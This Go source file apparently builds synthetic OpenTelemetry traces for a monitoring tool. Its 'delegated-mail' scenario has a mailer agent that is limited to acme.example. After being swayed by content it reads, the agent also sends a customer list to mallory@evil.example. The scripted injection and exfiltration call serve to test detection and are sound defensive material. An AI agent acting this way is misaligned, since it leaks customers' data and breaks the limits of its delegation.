package agents

import (
	"time"

	"go.opentelemetry.io/otel/attribute"
	api "go.opentelemetry.io/otel/trace"
)

// SessionMail is the session of DelegatedMail.
const SessionMail = "session-delegated-mail"

// DelegatedMail is an assistant that delegates reading to a reader and mail to a
// mailer, which may write to acme.example only. The mailer, talked into it by
// what it reads, writes to somebody else as well. Each agent is a service of its
// own with a trace of its own, and links to the span that asked it.
var DelegatedMail = Scenario{
	Name: "delegated-mail", Service: "assistants",
	Play: func(s *Stage) {
		var toReader, toMailer api.SpanContext
		asked := s.now
		s.Agent("assistant", SessionMail, "alice@acme.example", func() {
			s.Model("openai", "gpt-4o-mini", 900, 60, time.Second)
			toReader = s.Ask("reader", 4*time.Second)
			toMailer = s.Ask("mailer", 6*time.Second)
		}, attribute.String("spanwarden.principal.id", "alice@acme.example"), attribute.String("spanwarden.principal.type", "user"))

		s.now = asked.Add(1200 * time.Millisecond)
		s.Accept("reader", toReader, grant{id: "dlg-read", delegator: "assistant", scope: "read-customers"}, func() {
			s.Model("openai", "gpt-4o-mini", 700, 40, time.Second)
			s.Tool("list_customers", `{}`, 300*time.Millisecond)
		})
		s.now = asked.Add(5200 * time.Millisecond)
		s.Accept("mailer", toMailer, grant{
			id: "dlg-mail", delegator: "assistant", scope: "send-mail",
			constraints: `{"args":{"to":{"pattern":"@acme\\.example$"}}}`,
		}, func() {
			s.Model("openai", "gpt-4o-mini", 1200, 90, time.Second)
			s.Tool("send_email", `{"to":"bob@acme.example","subject":"Customers"}`, 200*time.Millisecond)
			s.Tool("send_email", `{"to":"mallory@evil.example","subject":"Customers"}`, 200*time.Millisecond)
		})
	},
}

// Ask is the client side of a delegation: it stands for the wait until the other
// agent has answered.
func (s *Stage) Ask(agent string, lasts time.Duration) api.SpanContext {
	return s.linked("invoke_agent "+agent, api.SpanKindClient, lasts, nil, nil,
		attribute.String("gen_ai.operation.name", "invoke_agent"),
		attribute.String("gen_ai.conversation.id", s.session),
		attribute.String("gen_ai.agent.id", agent),
		attribute.String("gen_ai.agent.name", agent))
}

// grant is what a delegator passes on, as the link convention writes it.
type grant struct{ id, delegator, scope, constraints string }

// Accept is the run of an agent that was asked: a trace of its own that links to
// the span which asked.
func (s *Stage) Accept(agent string, from api.SpanContext, g grant, body func()) {
	s.session = SessionMail // told along with the task
	defer func() { s.session = "" }()
	attrs := []attribute.KeyValue{
		attribute.String("spanwarden.link.type", "delegation"),
		attribute.String("spanwarden.delegation.id", g.id),
		attribute.String("spanwarden.delegation.delegator", g.delegator),
		attribute.StringSlice("spanwarden.delegation.scope", []string{g.scope}),
		attribute.String("spanwarden.delegation.granted_by", "agent:"+g.delegator),
		attribute.String("spanwarden.delegation.purpose", "tell the customers"),
	}
	if g.constraints != "" {
		attrs = append(attrs, attribute.String("spanwarden.delegation.constraints", g.constraints))
	}
	s.linked("invoke_agent "+agent, api.SpanKindInternal, 0, body,
		[]api.Link{{SpanContext: from, Attributes: attrs}},
		attribute.String("gen_ai.operation.name", "invoke_agent"),
		attribute.String("gen_ai.conversation.id", s.session),
		attribute.String("gen_ai.agent.id", agent),
		attribute.String("gen_ai.agent.name", agent),
		attribute.String("spanwarden.delegation.id", g.id))
}
